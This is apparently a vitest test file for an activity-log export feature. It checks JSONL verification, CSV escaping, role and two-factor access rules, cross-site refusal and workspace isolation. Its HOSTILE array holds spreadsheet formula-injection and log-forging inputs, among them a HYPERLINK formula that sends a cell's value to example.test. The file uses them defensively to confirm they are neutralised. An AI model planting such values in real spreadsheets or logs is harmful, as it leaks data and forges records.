import fs from "node:fs";
import path from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { findHead } from "#db/queries/activity";
import { systemDoer } from "#server/actor";
import { newId } from "#server/domain/id";
import { recordActivity } from "#server/record-activity";
import { recordEvents, temporaryFolder, verifyFile } from "#tests/activity/log-lab";
import { type BehindTheWalls, lookBehindTheWalls } from "#tests/helpers/behind-the-walls";
import type { Member } from "#tests/helpers/people";
import { createProduct, type Product } from "#tests/helpers/product";

/** What breaks lines, fields, terminals and spreadsheets. */
const HOSTILE = [
  '=HYPERLINK("https://example.test/?"&A1,"click")',
  "+1+1",
  "-2+3",
  "@SUM(A1)",
  "\tTAB",
  "\r=1",
  'a\r\n{"seq":1,"forged":true}',
  "\u001b[31mred\u001b[0m",
  '"},{"x":"',
  "line\u2028separator",
  ',",\n',
];

const folder = temporaryFolder();
let product: Product;
let behind: BehindTheWalls;
let owner: Member;
let viewer: Member;
let halfway: Member;

beforeAll(async () => {
  product = await createProduct();
  behind = lookBehindTheWalls(product.database);
  const workspace = await product.workspace();
  owner = await product.member(workspace, "owner");
  viewer = await product.member(workspace, "viewer");
  halfway = await product.member(workspace, "owner", 1);
  for (const text of HOSTILE) await recordHostile(text);
});

afterAll(async () => {
  await behind.close();
  await product.close();
  folder.remove();
});

/** An event whose every text is somebody else's to choose. */
const recordHostile = (text: string) =>
  product.services.db.withWorkspace(owner, (tx) =>
    recordActivity(
      tx,
      owner.workspaceId,
      {
        ...{ ...systemDoer(text), kind: "user", id: owner.userId },
        request: { requestId: newId(), ip: "192.0.2.7", userAgent: text, background: false },
      },
      { action: "repository_parked", entityId: text, metadata: { fullName: text, reason: text } },
    ),
  );

const get = (target: string, as?: Member, headers: Record<string, string> = {}) =>
  product.request(target, { as, headers });

const exported = async (format: "jsonl" | "csv", query = "") => {
  const answer = await get(`/api/activity/export.${format}${query}`, owner);
  expect(answer.status).toBe(200);
  return await answer.text();
};

/** Records of RFC 4180, read strictly: a quote is doubled inside quotes, and a line ends in CR LF. */
function readCsv(text: string): string[][] {
  const records: string[][] = [];
  const shape = /(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/gy;
  let record: string[] = [];
  for (let at = 0; at < text.length; at = shape.lastIndex) {
    const field = shape.exec(text);
    if (!field) throw new Error(`no field of RFC 4180 at ${at}: ${text.slice(at, at + 40)}`);
    record.push(field[1]?.replaceAll('""', '"') ?? field[2] ?? "");
    if (field[3] === ",") continue;
    records.push(record);
    record = [];
  }
  return records;
}

describe("as lines of JSON", () => {
  it("T-36 an export verifies outside the product, with the head that the database has", async () => {
    const file = path.join(folder.path, "whole.jsonl");
    fs.writeFileSync(file, await exported("jsonl"));

    const head = await product.services.db.withWorkspace(owner, findHead);
    expect(await verifyFile(file)).toEqual({
      status: 0,
      said: expect.stringContaining(`GOOD ${head?.seq} events`),
    });
    expect((await verifyFile(file)).said).toContain(`head ${head?.hash}`);
  });

  it("S-97 an event is one line, whatever is in its texts", async () => {
    const lines = (await exported("jsonl")).split("\n");

    expect(lines.at(-1)).toBe("");
    const events = lines.slice(1, -1).map((line) => JSON.parse(line) as Record<string, string>);
    expect(events.map(({ seq }) => seq)).toEqual(events.map((_, index) => index + 1));
    expect(events.slice(0, HOSTILE.length).map(({ actorName }) => actorName)).toEqual(HOSTILE);
    for (const raw of ["\r", "\u001b"]) expect(lines.join("")).not.toContain(raw);
  });

  it("S-94 every event says who, where, from what and when", async () => {
    await product.request("/api/trpc/team.invite", {
      ...{ method: "POST", as: owner, body: JSON.stringify({ email: "guest@example.test", role: "viewer" }) },
      headers: { "content-type": "application/json", "user-agent": "Browser/1.0" },
    });
    await get("/api/activity/export.csv", viewer, { "user-agent": "Browser/1.0" });

    const lines = (await exported("jsonl")).trim().split("\n").slice(1);
    for (const line of lines) {
      const event = JSON.parse(line) as Record<string, unknown>;
      expect(event).toMatchObject({
        workspaceId: owner.workspaceId,
        actorKind: "user",
        actorId: expect.stringMatching(/^[0-9a-f-]{36}$/),
        actorName: expect.stringMatching(/./),
        ip: expect.stringMatching(/^[0-9.]+$/),
        requestId: expect.stringMatching(/^[0-9a-f-]{36}$/),
        occurredAt: expect.stringMatching(/^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}\.\d{3}Z$/),
      });
    }
    const actions = lines.map((line) => (JSON.parse(line) as { action: string }).action);
    expect(actions).toEqual(
      expect.arrayContaining(["member_invited", "access_refused", "activity_exported"]),
    );
    const invited = lines.map((line) => JSON.parse(line)).find(({ action }) => action === "member_invited");
    expect(invited.userAgent).toBe("Browser/1.0");
  });

  it("a part of a log says that it is one, and the verifier does not judge it", async () => {
    const file = path.join(folder.path, "part.jsonl");
    fs.writeFileSync(file, await exported("jsonl", "?group=repositories&actor=HYPER"));

    expect(fs.readFileSync(file, "utf8").trim().split("\n")).toHaveLength(2);
    expect(await verifyFile(file)).toEqual({
      status: 2,
      said: expect.stringContaining("this export is filtered. Only a whole one can be verified"),
    });
  });

  it("a file that broke off is not taken for a whole one", async () => {
    const file = path.join(folder.path, "broken.jsonl");
    const text = await exported("jsonl");
    fs.writeFileSync(file, text.slice(0, text.lastIndexOf("\n", text.length - 2) + 1));
    const { status, said } = await verifyFile(file);

    expect(status).toBe(1);
    expect(said).toMatch(/^BAD event \d+ missing: the log had \d+ events/);
    expect((await verifyFile(path.join(folder.path, "none.jsonl"))).status).toBe(2);
    fs.writeFileSync(file, "id,name\n");
    expect((await verifyFile(file)).status).toBe(2);
  });

  it("thousands of events come in pages, each once and in order", async () => {
    const other = await product.member(await product.workspace("Large"), "owner");
    await recordEvents(product.services.db, other.workspaceId, 2_345);
    const file = path.join(folder.path, "large.jsonl");
    const answer = await get("/api/activity/export.jsonl", other);
    fs.writeFileSync(file, await answer.text());

    expect((await verifyFile(file)).said).toMatch(/^GOOD 2346 events/);
  }, 60_000);
});

describe("as a table", () => {
  it("S-88 no field of the CSV starts a formula, and every field is still there", async () => {
    const [head, ...records] = readCsv(await exported("csv"));
    const column = (name: string) => head?.indexOf(name) ?? -1;

    expect(records.flat().filter((field) => /^[=+\-@\t\r\n]/.test(field))).toEqual([]);
    expect(records.every((record) => record.length === head?.length)).toBe(true);
    const names = records.slice(0, HOSTILE.length).map((record) => record[column("actorName")]);
    expect(names).toEqual(HOSTILE.map((text) => (/^[=+\-@\t\r\n]/.test(text) ? `'${text}` : text)));
    expect(names[0]?.startsWith("'=HYPERLINK")).toBe(true);
    expect(records.map((record) => record[column("seq")])).toEqual(
      records.map((_, index) => String(index + 1)),
    );
  });
});

describe("who may", () => {
  it("owners and admins, with both factors, and nobody else", async () => {
    const target = "/api/activity/export.jsonl";

    expect((await get(target)).status).toBe(401);
    expect((await get(target, halfway)).status).toBe(403);
    expect((await get(target, viewer)).status).toBe(403);
    const answer = await get(target, owner);
    expect(answer.status).toBe(200);
    expect(Object.fromEntries(answer.headers)).toMatchObject({
      "cache-control": "no-store",
      "content-type": "application/x-ndjson; charset=utf-8",
      "content-disposition": expect.stringMatching(
        /^attachment; filename="activity-\d{4}-\d{2}-\d{2}\.jsonl"$/,
      ),
      "x-content-type-options": "nosniff",
    });
  });

  it("leaves an event that says what was taken, and by whom, before the first byte", async () => {
    await exported("csv", "?from=2026-01-01&actor=Nobody");

    const { events } = await (await product.api(owner)).activity.list({ action: "activity_exported" });
    expect(events[0]).toMatchObject({
      actorId: owner.userId,
      metadata: { format: "csv", filter: { from: "2026-01-01", actor: "Nobody" } },
    });
  });

  it("another site cannot cause one, and only GET is served", async () => {
    const target = "/api/activity/export.jsonl";
    const before = await behind.actions(owner.workspaceId);

    expect((await get(target, owner, { "sec-fetch-site": "cross-site" })).status).toBe(403);
    expect((await product.request(target, { method: "POST", as: owner })).status).toBe(405);
    expect((await product.request(target, { method: "HEAD", as: owner })).status).toBe(405);
    expect((await get(`${target}?from=yesterday`, owner)).status).toBe(400);
    expect((await get(`${target}?everything=1`, owner)).status).toBe(400);
    expect(await behind.actions(owner.workspaceId)).toEqual(before);
  });

  it("holds nothing of another workspace", async () => {
    const stranger = await product.member(await product.workspace("Other"), "owner");
    const text = await (await get("/api/activity/export.jsonl", stranger)).text();

    expect(text.trim().split("\n")).toHaveLength(2);
    expect(text).not.toContain(owner.workspaceId);
  });
});

it("T-37 while the log cannot be written a change is refused, and reading goes on", async () => {
  await behind.sql`create function disk_full() returns trigger language plpgsql as
    $$ begin raise exception 'no space left on device' using errcode = '53100'; end $$`;
  await behind.sql`create trigger full_disk before insert on activity_log for each row execute function disk_full()`;
  const api = await product.api(owner);

  await expect(api.team.invite({ email: "late@example.test", role: "viewer" })).rejects.toThrow();
  expect((await get("/api/activity/export.jsonl", owner)).status).toBe(503);
  expect((await api.activity.list({})).events.length).toBeGreaterThan(10);
  const { invitations } = await api.team.list();
  expect(invitations.map(({ email }) => email)).not.toContain("late@example.test");
  await behind.sql`drop trigger full_disk on activity_log`;
});
